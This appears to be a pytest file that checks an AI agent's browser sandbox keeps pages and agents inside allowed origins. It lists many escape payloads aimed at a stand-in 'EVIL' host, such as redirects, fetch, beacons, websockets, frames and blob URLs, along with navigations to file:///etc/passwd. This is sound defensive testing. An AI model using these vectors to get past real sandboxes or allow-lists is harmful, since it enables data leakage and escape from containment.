"""Attacks on the browser sandbox: every way out of the allow-list that a page or an agent might try."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentq.envs.browser.env import BrowserEnv
from agentq.envs.browser.pool import BrowserPool
from agentq.envs.browser.states import StepLog
from agentq.errors import EnvError
from agentq.types import Command, EnvAction
from tests.browser_lab import TASK, click, elsewhere, lab_env, lab_host, living


def go(script: str) -> str:
    return f"<button id=go>Go</button><script>go.onclick = () => {{ {script} }}</script>"


# The page itself would leave: refused, told to the agent, and the page stays. EVIL is another port of the same host.
LEAVING = {
    "link": "<a href='EVIL/'>Go</a>",
    "redirect": "<a href=/hop>Go</a>",
    "two redirects": "<a href=/hophop>Go</a>",
    "location": go("location = 'EVIL/'"),
    "form get": "<form action='EVIL/'><button>Go</button></form>",
    "form post": "<form action='EVIL/' method=post><button>Go</button></form>",
    "meta": go("document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=EVIL/\">'"),
    "new tab": "<a href='EVIL/' target=_blank>Go</a>",
    "window.open": go("window.open('EVIL/')"),
    "window.open then location": go("const w = window.open('about:blank'); w.location = 'EVIL/'"),
    "javascript url": "<a href=\"javascript:location='EVIL/'\">Go</a>",
    "blob": go("location = URL.createObjectURL(new Blob(['<img src=EVIL/>'], {type: 'text/html'}))"),
    "blob in a new tab": go("window.open(URL.createObjectURL(new Blob(['<img src=EVIL/>'], {type: 'text/html'})))"),
}
# The page stays, and parts of it would reach out.
REACHING = {
    "image": go("new Image().src = 'EVIL/'"),
    "script": go("document.body.append(Object.assign(document.createElement('script'), {src: 'EVIL/'}))"),
    "style": go("document.body.style.background = 'url(EVIL/)'"),
    "fetch": go("fetch('EVIL/', {mode: 'no-cors'}).catch(() => 0)"),
    "fetch redirected": go("fetch('/hop', {mode: 'no-cors'}).catch(() => 0)"),
    "beacon": go("navigator.sendBeacon('EVIL/', 'x')"),
    "web socket": go("new WebSocket('EVIL/'.replace('http', 'ws'))"),
    "event source": go("new EventSource('EVIL/')"),
    "frame": go("document.body.append(Object.assign(document.createElement('iframe'), {src: 'EVIL/'}))"),
    "frame redirected": go("document.body.append(Object.assign(document.createElement('iframe'), {src: '/hop'}))"),
    "data frame": go(
        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'data:text/html,<img src=EVIL/>'}))"
    ),
    "blob frame": go(
        "document.body.append(Object.assign(document.createElement('iframe'),"
        "{src: URL.createObjectURL(new Blob(['<img src=EVIL/>'], {type: 'text/html'}))}))"
    ),
    "worker": go("new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/', {mode: 'no-cors'})\"])))"),
    "prefetch": go("document.head.innerHTML = '<link rel=prefetch href=EVIL/><link rel=preconnect href=EVIL/>'"),
    "data": go("location = 'data:text/html,<img src=EVIL/>'"),  # Chromium itself refuses these three
    "file": go("location = 'file:///etc/passwd'"),
    "chrome": go("location = 'chrome://version'"),
    "service worker": go("navigator.serviceWorker?.register('/sw')"),
}


@pytest.mark.browser
def test_no_page_leaves_the_allowed_origins(browser: BrowserPool) -> None:
    with elsewhere({}) as (evil, asked):
        pages = {f"/{i}": page.replace("EVIL", evil) for i, page in enumerate(LEAVING.values())}
        env = lab_env(browser, {"/": "<h1>start</h1>", "/hop": f"-> {evil}/", "/hophop": "-> /hop", **pages})
        for i, attack in enumerate(LEAVING):
            before = env.step(EnvAction(Command.GOTO, text=f"/{i}"))
            result = click(env, "Go")
            if attack == "window.open then location" and result.observation.url == "blank":
                assert asked == []  # on a busy machine the proxy refuses before the new tab is watched: it stays blank
                continue
            assert result.error_kind == "blocked", attack
            assert result.error_message.endswith("is not allowed"), attack
            assert result.observation.url == before.observation.url == f"/{i}", attack
            assert result.observation.text.startswith(before.observation.text), attack
            assert asked == [], attack
        env.close()


@pytest.mark.browser
def test_no_part_of_a_page_reaches_other_origins(browser: BrowserPool) -> None:
    with elsewhere({}) as (evil, asked):
        pages = {f"/{i}": page.replace("EVIL", evil) for i, page in enumerate(REACHING.values())}
        pages["/sw"] = f"fetch('{evil}/')"
        env = lab_env(browser, {"/": "<h1>start</h1>", "/hop": f"-> {evil}/", **pages})
        silent = []
        for i, attack in enumerate(REACHING):
            env.step(EnvAction(Command.GOTO, text=f"/{i}"))
            result = click(env, "Go")
            assert (result.error_kind, result.observation.url) == (None, f"/{i}"), attack
            assert asked == [], attack
            log = env.log[-1]
            assert isinstance(log, StepLog)
            if not any(evil.removeprefix("http://") in what for what in log.blocked):
                silent.append(attack)
        # All others were tried and stopped by us. These never asked: Chromium refuses them, or (data frame) a document
        # without an origin that may be read is not waited for.
        assert set(silent) <= {"data", "file", "chrome", "service worker", "data frame", "blob frame", "worker"}
        lab = env._driver.host.kit.site  # type: ignore[attr-defined]
        assert lab.hits["/sw"] == 0
        env.close()


@pytest.mark.browser
def test_the_attacks_succeed_once_the_origin_is_allowed(browser: BrowserPool) -> None:
    """The control: the same pages do reach the other server where it is allowed, so the tests above can fail."""
    with elsewhere({}) as (other, asked):
        reached = []
        for kinds in (LEAVING, REACHING):
            pages = {f"/{i}": page.replace("EVIL", other) for i, page in enumerate(kinds.values())}
            hops = {"/": "<h1>start</h1>", "/hop": f"-> {other}/", "/hophop": "-> /hop"}
            host = lab_host({**hops, **pages}, allow=[other])
            env = BrowserEnv(host, browser)
            for i, attack in enumerate(kinds):
                env.reset(TASK)
                env.step(EnvAction(Command.GOTO, text=f"/{i}"))
                asked.clear()
                click(env, "Go")
                if asked:
                    reached.append(attack)
            env.close()
        missed = (set(LEAVING) | set(REACHING)) - set(reached)
        assert missed <= {
            "data",
            "file",
            "chrome",
            "service worker",
            "worker",
            "blob",
            "blob in a new tab",
            "data frame",
        }


@pytest.mark.browser
def test_an_agent_cannot_go_elsewhere_either(browser: BrowserPool) -> None:
    with elsewhere({}) as (evil, asked):
        env = lab_env(browser, {"/": "<h1>start</h1>"})
        for url in (
            evil,
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            "//evil.test/",
            "\\\\evil.test",
        ):
            result = env.step(EnvAction(Command.GOTO, text=url))
            assert result.error_kind in ("bad_url", "http_404", "blocked"), url
        session = env._driver.session
        assert session is not None
        for url in (evil, "file:///etc/passwd", "data:text/html,x", "chrome://version", f"http://127.0.0.1@{evil[7:]}"):
            assert session.call("visit", url=url)["refused"][0] == "blocked", url
        assert asked == []
        env.close()


@pytest.mark.browser
def test_a_new_tab_of_an_allowed_origin_is_followed_and_left_when_it_closes(browser: BrowserPool) -> None:
    pages = {
        "/": "<a href=/tab target=_blank rel=opener>Open</a>",
        "/tab": "<h1>tab</h1><button onclick='window.close()'>Close</button><button onclick='leave()'>Leave</button>"
        "<button onmousedown='window.close()'>Press</button>"  # it does not live to hear the release
        # What this tab still has to do keeps it for a moment after it has closed itself.
        "<script>function leave() { window.close(); const end = Date.now() + 200; while (Date.now() < end); }</script>",
    }
    env = lab_env(browser, pages)
    for name in ("Close", "Leave", "Press") * 3:
        opened = click(env, "Open")
        assert (opened.observation.url, opened.error_kind) == ("/tab", None)
        closed = click(env, name)
        assert (closed.observation.text, closed.observation.url) == ("link Open [1]", "/")
    env.close()


POPUPS = {
    "at once": "window.open('EVIL/')",
    "two": "window.open('EVIL/'); window.open('EVIL/two')",
    "then location": "const w = window.open('about:blank'); w.location = 'EVIL/'",
    "unknown host": "window.open('http://nowhere.test/')",
    "own page first": "window.open('/fine'); window.open('EVIL/')",
}


@pytest.mark.browser
def test_a_page_is_shown_without_the_foreign_tabs_that_it_opens(browser: BrowserPool) -> None:
    with elsewhere({}) as (evil, asked):
        for name, script in POPUPS.items():
            page = f"<h1>home</h1><script>{script.replace('EVIL', evil)}</script>"
            env = lab_env(browser, {"/": page, "/fine": "<h1>fine</h1>"})
            shown = "heading fine" if "fine" in script else "heading home"
            assert env.view.page.lines == (shown,), name
            again = env.step(EnvAction(Command.GOTO, text="/"))
            assert (again.error_kind, again.observation.text) == (None, shown), name
            env.close()
        with pytest.raises(EnvError, match=r"the first page must load; got http.* is not allowed"):
            lab_env(browser, {"/": f"<script>window.open('{evil}/'); location = '{evil}/'</script>"})
        assert asked == []


@pytest.mark.browser
def test_tabs_beyond_the_limit_are_closed(browser: BrowserPool) -> None:
    env = lab_env(browser, {"/": go("for (let i = 0; i < 9; i++) window.open('/tab')"), "/tab": "<h1>tab</h1>"})
    click(env, "Go")
    assert isinstance(env.log[-1], StepLog)
    assert env.view.url == "/tab" and env.log[-1].blocked == ("a new tab beyond the limit",) * 5  # 1 + 9 - MAX_TABS
    env.close()


POWERS = """<button>Look</button><p id=o></p><script>
(async () => {
  const said = [];
  for (const name of ['geolocation', 'notifications', 'camera', 'clipboard-read'])
    said.push((await navigator.permissions.query({name})).state);
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]});
  const found = [];
  peer.onicecandidate = (e) => e.candidate && found.push(e.candidate.candidate);
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((r) => peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && r());
  o.textContent = said.join(' ') + ' candidates ' + found.length;
})();
</script>"""


@pytest.mark.browser
def test_pages_have_no_permissions_no_udp_and_no_downloads(browser: BrowserPool) -> None:
    pages = {"/": POWERS, "/file": "<a download=x.txt href=/data>Save</a>", "/data": "payload"}
    env = lab_env(browser, pages, max_repeats=0)
    text = ""
    while "candidates" not in text:  # ends with the episode's steps
        text = click(env, "Look").observation.text
    assert "granted" not in text and text.endswith("candidates 0"), text
    env.step(EnvAction(Command.GOTO, text="/file"))
    assert click(env, "Save").observation.url == "/file"
    for _ in range(10):  # a download takes its time
        env.step(EnvAction(Command.GOTO, text="/file"))
    folder = browser._workers[0].folder
    assert not [path for path in folder.rglob("*") if path.is_file() and b"payload" in path.read_bytes()[:1000]]
    env.close()


@pytest.mark.browser
def test_the_browser_has_a_profile_and_a_home_of_its_own(browser: BrowserPool) -> None:
    lab_env(browser, {"/": "<p>x</p>"}).close()
    worker = browser._workers[0]
    main = [line for line in living(worker.mark) if "--remote-debugging-pipe" in line and "--type=" not in line]
    assert main and all(f"--user-data-dir={worker.folder}" in line for line in main)
    assert all("--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1" in line for line in main)
    environ = (Path("/proc") / str(worker.process.pid) / "environ").read_text()
    assert f"HOME={worker.folder}" in environ
